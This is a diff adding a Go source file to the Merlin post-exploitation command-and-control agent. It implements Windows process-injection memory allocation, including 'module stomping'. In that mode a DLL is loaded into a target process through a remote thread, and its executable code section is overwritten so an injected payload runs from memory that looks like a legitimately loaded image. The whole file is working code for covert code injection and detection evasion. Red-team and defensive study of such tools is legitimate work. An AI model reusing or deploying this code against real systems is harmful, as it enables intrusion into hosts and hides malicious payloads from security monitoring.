@@ -0,0 +1,225 @@
+//go:build windows
+
+/*
+Merlin is a post-exploitation command and control framework.
+
+This file is part of Merlin.
+Copyright (C) 2023 Russel Van Tuyl
+
+Merlin is free software: you can redistribute it and/or modify
+it under the terms of the GNU General Public License as published by
+the Free Software Foundation, either version 3 of the License, or
+any later version.
+
+Merlin is distributed in the hope that it will be useful,
+but WITHOUT ANY WARRANTY; without even the implied warranty of
+MERCHANTABILITY or FITNESS FOR A PARTICULAR PURPOSE.  See the
+GNU General Public License for more details.
+
+You should have received a copy of the GNU General Public License
+along with Merlin.  If not, see <http://www.gnu.org/licenses/>.
+*/
+
+package commands
+
+import (
+	// Standard
+	"encoding/binary"
+	"errors"
+	"fmt"
+	"strings"
+	"unsafe"
+
+	// X Packages
+	"golang.org/x/sys/windows"
+
+	// Internal
+	"github.com/Ne0nd0g/merlin-agent/v2/os/windows/api/kernel32"
+)
+
+// stompDLL is the DLL loaded and overwritten by the stomp allocator when one isn't provided; it is large and rarely
+// loaded so its code isn't in use by the target process
+const stompDLL = "chakra.dll"
+
+// allocate returns the address of writable memory in the process, large enough for the payload, that is made executable
+// after the payload is written. The allocator is the injection job's memory allocation backend:
+//
+//	private (default) - newly allocated private memory
+//	stomp[:<dll>]     - the code section of a DLL loaded into the process for that purpose, so the payload runs from
+//	                    memory backed by a legitimately loaded image
+func allocate(process windows.Handle, size int, allocator string, wow64 bool) (uintptr, error) {
+	stomp, dll, err := parseAllocator(allocator)
+	if err != nil {
+		return 0, err
+	}
+	if !stomp {
+		addr, err := kernel32.VirtualAllocEx(uintptr(process), 0, size, windows.MEM_COMMIT|windows.MEM_RESERVE, windows.PAGE_READWRITE)
+		if err != nil {
+			return 0, err
+		}
+		if addr == 0 {
+			return 0, errors.New("VirtualAllocEx failed and returned 0")
+		}
+		return addr, nil
+	}
+	if wow64 {
+		return 0, fmt.Errorf("the stomp allocator is not supported for WoW64 processes")
+	}
+
+	pid, err := windows.GetProcessId(process)
+	if err != nil {
+		return 0, fmt.Errorf("there was an error calling Windows API GetProcessId: %s", err)
+	}
+	if _, err = moduleBase(pid, dll); err == nil {
+		return 0, fmt.Errorf("%s is already loaded in process %d and may be in use, provide a different DLL to stomp", dll, pid)
+	}
+
+	var base uintptr
+	if process == windows.CurrentProcess() {
+		// DllMain isn't run and the DLL's imports aren't loaded because its code is going to be overwritten
+		var module windows.Handle
+		module, err = windows.LoadLibraryEx(dll, 0, windows.DONT_RESOLVE_DLL_REFERENCES)
+		if err != nil {
+			return 0, fmt.Errorf("there was an error loading %s: %s", dll, err)
+		}
+		base = uintptr(module)
+	} else {
+		base, err = loadRemote(process, pid, dll)
+		if err != nil {
+			return 0, err
+		}
+	}
+
+	addr, length, err := codeSection(process, base)
+	if err != nil {
+		return 0, fmt.Errorf("there was an error finding the code section of %s: %s", dll, err)
+	}
+	if uintptr(size) > length {
+		return 0, fmt.Errorf("the %d byte payload is larger than the %d byte code section of %s", size, length, dll)
+	}
+	var oldProtect uint32
+	err = windows.VirtualProtectEx(process, addr, uintptr(size), windows.PAGE_READWRITE, &oldProtect)
+	if err != nil {
+		return 0, fmt.Errorf("there was an error calling Windows API VirtualProtectEx: %s", err)
+	}
+	return addr, nil
+}
+
+// parseAllocator returns true and the DLL to load when the allocator is stomp[:<dll>], or false for private memory
+func parseAllocator(allocator string) (stomp bool, dll string, err error) {
+	name, dll, _ := strings.Cut(allocator, ":")
+	switch strings.ToLower(name) {
+	case "", "private":
+		return false, "", nil
+	case "stomp":
+		if dll == "" {
+			dll = stompDLL
+		}
+		return true, dll, nil
+	default:
+		return false, "", fmt.Errorf("unknown memory allocator: %s", name)
+	}
+}
+
+// loadRemote loads the DLL into the process with a thread that calls LoadLibraryW and returns its base address
+func loadRemote(process windows.Handle, pid uint32, dll string) (uintptr, error) {
+	path, err := windows.UTF16FromString(dll)
+	if err != nil {
+		return 0, err
+	}
+	size := len(path) * 2
+	addr, err := kernel32.VirtualAllocEx(uintptr(process), 0, size, windows.MEM_COMMIT|windows.MEM_RESERVE, windows.PAGE_READWRITE)
+	if err != nil {
+		return 0, err
+	}
+	defer kernel32.VirtualFreeEx(uintptr(process), addr, 0, windows.MEM_RELEASE)
+
+	var written uintptr
+	err = windows.WriteProcessMemory(process, addr, (*byte)(unsafe.Pointer(&path[0])), uintptr(size), &written)
+	if err != nil {
+		return 0, fmt.Errorf("there was an error calling Windows API WriteProcessMemory: %s", err)
+	}
+
+	// kernel32.dll is loaded at the same address in every process of the same architecture
+	loadLibrary := windows.NewLazySystemDLL("kernel32.dll").NewProc("LoadLibraryW")
+	err = loadLibrary.Find()
+	if err != nil {
+		return 0, err
+	}
+	thread, err := kernel32.CreateRemoteThreadEx(uintptr(process), 0, 0, loadLibrary.Addr(), addr, 0, 0, 0)
+	if err != nil {
+		return 0, err
+	}
+	defer windows.CloseHandle(windows.Handle(thread))
+	_, err = windows.WaitForSingleObject(windows.Handle(thread), windows.INFINITE)
+	if err != nil {
+		return 0, fmt.Errorf("there was an error waiting for LoadLibraryW in process %d: %s", pid, err)
+	}
+
+	base, err := moduleBase(pid, dll)
+	if err != nil {
+		return 0, fmt.Errorf("%s was not loaded in process %d: %s", dll, pid, err)
+	}
+	return base, nil
+}
+
+// moduleBase returns the base address of the DLL, by file name, in the process
+func moduleBase(pid uint32, dll string) (uintptr, error) {
+	snapshot, err := windows.CreateToolhelp32Snapshot(windows.TH32CS_SNAPMODULE|windows.TH32CS_SNAPMODULE32, pid)
+	if err != nil {
+		return 0, fmt.Errorf("there was an error calling Windows API CreateToolhelp32Snapshot: %s", err)
+	}
+	defer windows.CloseHandle(snapshot)
+
+	name := dll
+	if i := strings.LastIndexAny(name, `\/`); i >= 0 {
+		name = name[i+1:]
+	}
+	entry := windows.ModuleEntry32{Size: uint32(unsafe.Sizeof(windows.ModuleEntry32{}))}
+	for err = windows.Module32First(snapshot, &entry); err == nil; err = windows.Module32Next(snapshot, &entry) {
+		if strings.EqualFold(windows.UTF16ToString(entry.Module[:]), name) {
+			return entry.ModBaseAddr, nil
+		}
+	}
+	return 0, fmt.Errorf("the module was not found")
+}
+
+// codeSection reads the PE headers of the image loaded at the base address in the process and returns the address and
+// size of its first executable section
+func codeSection(process windows.Handle, base uintptr) (uintptr, uintptr, error) {
+	read := func(addr uintptr, size int) ([]byte, error) {
+		data := make([]byte, size)
+		var n uintptr
+		err := windows.ReadProcessMemory(process, addr, &data[0], uintptr(size), &n)
+		if err != nil {
+			return nil, fmt.Errorf("there was an error calling Windows API ReadProcessMemory: %s", err)
+		}
+		return data, nil
+	}
+
+	dos, err := read(base, 0x40)
+	if err != nil {
+		return 0, 0, err
+	}
+	nt := base + uintptr(binary.LittleEndian.Uint32(dos[0x3C:]))
+	header, err := read(nt, 24)
+	if err != nil {
+		return 0, 0, err
+	}
+	if binary.LittleEndian.Uint32(header) != 0x4550 {
+		return 0, 0, fmt.Errorf("the image does not have a PE signature")
+	}
+	sections := int(binary.LittleEndian.Uint16(header[6:]))
+	table, err := read(nt+24+uintptr(binary.LittleEndian.Uint16(header[20:])), sections*40)
+	if err != nil {
+		return 0, 0, err
+	}
+	for i := 0; i < sections; i++ {
+		section := table[i*40:]
+		// IMAGE_SCN_MEM_EXECUTE
+		if binary.LittleEndian.Uint32(section[36:])&0x20000000 != 0 {
+			return base + uintptr(binary.LittleEndian.Uint32(section[12:])), uintptr(binary.LittleEndian.Uint32(section[8:])), nil
+		}
+	}
+	return 0, 0, fmt.Errorf("the image does not have an executable section")
+}